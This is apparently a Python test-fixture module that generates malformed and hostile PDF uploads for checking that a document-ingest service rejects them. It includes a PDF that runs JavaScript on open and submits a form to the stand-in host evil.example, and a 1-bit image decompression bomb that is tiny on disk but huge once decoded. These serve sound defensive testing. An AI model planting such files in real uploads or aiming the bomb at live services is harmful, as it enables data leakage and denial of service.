"""Hostile and broken uploads, made on the spot: each is what a real user (or attacker) could put in a matter.

`bad_documents()` gives {doc_id: (file name, bytes, words the error must contain)}.
"""

import io
import os
import zipfile
import zlib

import pypdfium2 as pdfium
from fpdf import FPDF

BOMB_SIDE = 30_000  # a 1-bit image of 30,000 x 30,000 pixels: 110 KB compressed, 900 MP (900 MB as 8-bit) decoded


def text_pdf(pages: list[str], *, size: tuple[float, float] = (612.0, 792.0)) -> bytes:
    pdf = FPDF(unit="pt", format=size)
    pdf.set_auto_page_break(False)
    pdf.set_font("Helvetica", size=11)
    for text in pages:
        pdf.add_page()
        pdf.set_xy(40, 40)
        pdf.multi_cell(min(size[0] - 80, 530), 14, text)
    return bytes(pdf.output())


LETTER_TEXT = ("Whitfield and Marsh LLP, 200 Park Avenue, New York. Re: Matter No. M-7. Dear Ms. Chen, "
               "thank you for your letter of March 3, 2024. We will revert shortly. Sincerely, Alan Marsh")


def raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF from numbered object bodies (object i+1 = objects[i]), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def _page_objects(content: bytes, resources: bytes = b"<< >>") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources " + resources + b" /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]


def javascript_pdf() -> bytes:
    """A one-page letter that runs JavaScript when opened (document-level and OpenAction)."""
    text = b"BT /F1 11 Tf 40 740 Td (" + LETTER_TEXT.encode() + b") Tj ET"
    objects = _page_objects(text, b"<< /Font << /F1 5 0 R >> >>")
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 7 0 R >> >>"
    objects += [
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://evil.example/'\\);) >>",
        b"<< /Names [(init) 6 0 R] >>",
    ]
    return raw_pdf(objects)


def image_bomb_pdf(side: int = BOMB_SIDE) -> bytes:
    """One page whose only image is side x side pixels of 1-bit zeros: tiny on disk, huge once decoded."""
    packer = zlib.compressobj(9)
    row = bytes((side + 7) // 8)
    block = row * 256
    parts = [packer.compress(block) for _ in range(side // 256)]
    parts.append(packer.compress(row * (side % 256)))
    parts.append(packer.flush())
    data = b"".join(parts)
    image = (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
             b"/BitsPerComponent 1 /Filter /FlateDecode /Length %d >>\nstream\n" % (side, side, len(data))
             + data + b"\nendstream")
    objects = _page_objects(b"q 612 0 0 792 0 0 cm /Im1 Do Q", b"<< /XObject << /Im1 5 0 R >> >>")
    objects.append(image)
    return raw_pdf(objects)


def attachment_pdf() -> bytes:
    """A letter carrying an embedded file (say, the e-mail's attachments)."""
    doc = pdfium.PdfDocument(text_pdf([LETTER_TEXT]))
    try:
        attachment = doc.new_attachment("wire-instructions.xlsx")
        attachment.set_data(b"PK\x03\x04 spreadsheet bytes")
        out = io.BytesIO()
        doc.save(out)
        return out.getvalue()
    finally:
        doc.close()


def encrypted_pdf() -> bytes:
    pdf = FPDF()
    pdf.set_encryption(owner_password="owner-pw", user_password="user-pw")
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    pdf.cell(0, 10, "Privileged and confidential settlement terms")
    return bytes(pdf.output())


def zero_page_pdf() -> bytes:
    doc = pdfium.PdfDocument.new()
    out = io.BytesIO()
    doc.save(out)
    doc.close()
    return out.getvalue()


def many_pages_pdf(pages: int, distinct: int = 50) -> bytes:
    """`pages` short letter pages: `distinct` of them laid out, then copied over (fpdf2 takes 4 ms a page)."""
    seed = pdfium.PdfDocument(text_pdf([f"Sheet {n}. {LETTER_TEXT}" for n in range(1, min(pages, distinct) + 1)]))
    doc = pdfium.PdfDocument.new()
    try:
        while len(doc) < pages:
            doc.import_pages(seed, list(range(min(len(seed), pages - len(doc)))))
        out = io.BytesIO()
        doc.save(out)
        return out.getvalue()
    finally:
        doc.close()
        seed.close()


def docx_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def bad_documents(good: bytes, *, limit_pages: int = 2000) -> dict[str, tuple[str, bytes, tuple[str, ...]]]:
    """{doc_id: (file name, bytes, words its error names)}: every kind of upload ingest must refuse."""
    return {
        "corrupt": ("corrupt.pdf", b"%PDF-1.7\n" + os.urandom(4000) + b"\n%%EOF\n", ("corrupt",)),
        "truncated": ("truncated.pdf", good[: len(good) // 2], ("truncated",)),
        "encrypted": ("encrypted.pdf", encrypted_pdf(), ("password",)),
        "zero-pages": ("zero-pages.pdf", zero_page_pdf(), ("zero pages",)),
        "too-many-pages": ("too-many-pages.pdf", many_pages_pdf(limit_pages + 1), (f"limit of {limit_pages}",)),
        "giant-page": ("giant-page.pdf", text_pdf(["x"], size=(20_000.0, 700.0)), ("outside", "pt")),
        "image-bomb": ("image-bomb.pdf", image_bomb_pdf(), ("pixels", "limit")),
        "javascript": ("javascript.pdf", javascript_pdf(), ("JavaScript",)),
        "attachment": ("attachment.pdf", attachment_pdf(), ("embedded file",)),
        "renamed-docx": ("renamed-docx.pdf", docx_bytes(), ("not a PDF", "ZIP")),
        "renamed-text": ("notes.pdf", b"Dear Sir, please find the contract attached.\n" * 40, ("not a PDF", "text")),
        "empty": ("empty.pdf", b"", ("empty",)),
    }
